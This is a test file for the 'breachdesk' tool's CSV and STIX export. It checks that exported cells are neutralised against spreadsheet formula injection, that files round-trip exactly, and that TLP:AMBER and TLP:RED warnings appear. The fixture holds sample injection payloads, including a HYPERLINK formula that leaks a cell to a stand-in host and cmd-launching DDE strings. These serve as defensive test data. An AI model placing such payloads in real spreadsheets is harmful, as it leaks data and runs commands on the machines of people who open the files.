import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CSV_COLUMNS } from '../src/interop/csv.js';
import { backends, scratchPostgresDatabase } from './support/databases.js';
import type { Backend } from './support/databases.js';
import { runCli } from './support/run-cli.js';

// What `breachdesk export` writes is opened in spreadsheets and passed on: a cell must
// never run as a formula there, the file must import back exactly, and an export of
// everything (the default) must say so when it holds AMBER or RED.

/** Text a spreadsheet runs, in every field an export writes (OWASP's list, the HYPERLINK among them). */
const hostile = {
  victim: { name: '=HYPERLINK("http://x.example/?leak="&A1,"Click me")', isNew: true, region: '-Northern Marches', city: '+Springfield' },
  startDate: '2024-03',
  title: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  summary: '-2+3+cmd|\' /C calc\'!A0',
  description: '=1+1 and more\nover two lines',
  vendor: '＝HYPERLINK("http://x.example")',
  threatActors: ['@ransom-crew', "'=already quoted once"],
  tlp: 'green',
};
// A spreadsheet runs a cell whose first character is one of these (tab and CR too).
const RUNS = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

interface Ledger { env: Record<string, string>; drop: () => Promise<void> }

async function emptyLedger(backend: Backend, dir: string, name: string): Promise<Ledger> {
  if (backend === 'pglite') return { env: { DATABASE_URL: `pglite:${path.join(dir, name)}` }, drop: () => Promise.resolve() };
  const scratch = await scratchPostgresDatabase();
  return { env: { DATABASE_URL: scratch.url }, drop: scratch.drop };
}

describe.each(backends)('breachdesk export on %s', (backend) => {
  let dir: string;
  let source: Ledger;
  let target: Ledger;
  const cli = async (ledger: Ledger, args: string[], input?: string) => {
    const run = await runCli(args, { env: ledger.env, input });
    expect(run.code, `${args.join(' ')}: ${run.stderr}`).toBe(0);
    return run;
  };

  beforeAll(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'breachdesk-export-'));
    source = await emptyLedger(backend, dir, 'source');
    target = await emptyLedger(backend, dir, 'target');
    await cli(source, ['migrate']);
    await cli(target, ['migrate']);
    await cli(source, ['seed-demo']);
    await cli(source, ['report'], JSON.stringify(hostile));
  }, 120_000);
  afterAll(async () => {
    await source.drop();
    await target.drop();
    await rm(dir, { recursive: true, force: true });
  });

  it('GIVEN fields that begin like formulas THEN export csv writes a spreadsheet-safe file, and import csv of it then export csv gives the same bytes', { timeout: 180_000 }, async () => {
    const first = (await cli(source, ['export', 'csv'])).stdout;
    // RFC 4180: every record ends with CRLF, the header first.
    expect(first.split('\r\n')[0]).toBe(CSV_COLUMNS.join(','));
    expect(first.endsWith('\r\n')).toBe(true);
    const records: string[][] = parse(first);
    const cells = records.flat();
    expect(cells.filter((cell) => RUNS.test(cell))).toEqual([]);
    const row = parse<Record<string, string>>(first, { columns: true }).find((r) => r.victim?.includes('HYPERLINK'))!;
    expect(row).toMatchObject({
      victim: `'${hostile.victim.name}`, region: `'${hostile.victim.region}`, city: `'${hostile.victim.city}`, title: `'${hostile.title}`,
      summary: `'${hostile.summary}`, description: `'${hostile.description}`, vendor: `'${hostile.vendor}`,
      // Actors are listed in order; the one that began with a quote before `=` gets a second.
      threat_actors: "''=already quoted once;@ransom-crew",
    });

    const file = path.join(dir, `export-${backend}.csv`);
    await writeFile(file, first);
    const imported = JSON.parse((await cli(target, ['import', 'csv', file, '--json'])).stdout) as { imported: number; invalid: unknown[] };
    expect(imported).toMatchObject({ imported: 23, invalid: [] });
    // Stored as the reporter typed it: the quote was the export's, not the victim's.
    const found = JSON.parse((await cli(target, ['search', 'HYPERLINK', '--json'])).stdout) as { victims: { name: string; incidents: { summary: string; vendor: string }[] }[] };
    expect(found.victims[0]).toMatchObject({ name: hostile.victim.name, incidents: [{ summary: hostile.summary, vendor: hostile.vendor }] });

    expect((await cli(target, ['export', 'csv'])).stdout).toBe(first);
    expect(await readFile(file, 'utf8')).toBe(first);
  });

  it('GIVEN a ledger with AMBER and RED THEN export csv and stix without --tlp write everything and say so on standard error; --tlp says nothing', { timeout: 180_000 }, async () => {
    const rows = [['Gullwing Ferries', 'amber'], ['Okapi Tramways', 'red'], ['Brindle Waterworks', 'red']]
      .map(([victim, tlp]) => ({ victim, start_date: '2025-02', summary: `A ${tlp} breach.`, tlp }));
    const file = path.join(dir, `marked-${backend}.csv`);
    await writeFile(file, stringify(rows, { header: true, columns: [...CSV_COLUMNS] }));
    expect(JSON.parse((await cli(source, ['import', 'csv', file, '--json'])).stdout)).toMatchObject({ imported: 3, invalid: [] });
    const csv = await cli(source, ['export', 'csv']);
    expect(csv.stdout).toContain('TLP:AMBER');
    expect(csv.stdout).toContain('TLP:RED');
    expect(csv.stderr).toBe('breachdesk: note: this export holds 3 incidents marked above TLP:GREEN (1 TLP:AMBER, 2 TLP:RED), '
      + 'since without --tlp it holds everything. Share the file only as those markings allow, or export with --tlp green.\n');
    const stix = await cli(source, ['export', 'stix']);
    expect(JSON.parse(stix.stdout)).toMatchObject({ type: 'bundle' });
    expect(stix.stderr).toMatch(/^breachdesk: note: this export holds 3 incidents marked above TLP:GREEN \(1 TLP:AMBER, 2 TLP:RED\)/);
    const oneVictim = await cli(source, ['export', 'stix', '--victim', 'Gullwing Ferries']);
    expect(oneVictim.stderr).toMatch(/holds 1 incident marked above TLP:GREEN \(1 TLP:AMBER\)/);

    const green = await cli(source, ['export', 'csv', '--tlp', 'green']);
    expect(green.stdout).not.toContain('TLP:AMBER');
    expect(green.stderr).toBe('');
    expect((await cli(source, ['export', 'stix', '--tlp', 'red'])).stderr).toBe('');
  });

  it('GIVEN a ledger of GREEN and CLEAR only THEN export says nothing on standard error', { timeout: 120_000 }, async () => {
    const run = await cli(target, ['export', 'stix']);
    expect(run.stderr).toBe('');
    expect((await cli(target, ['export', 'csv'])).stderr).toBe('');
  });
});
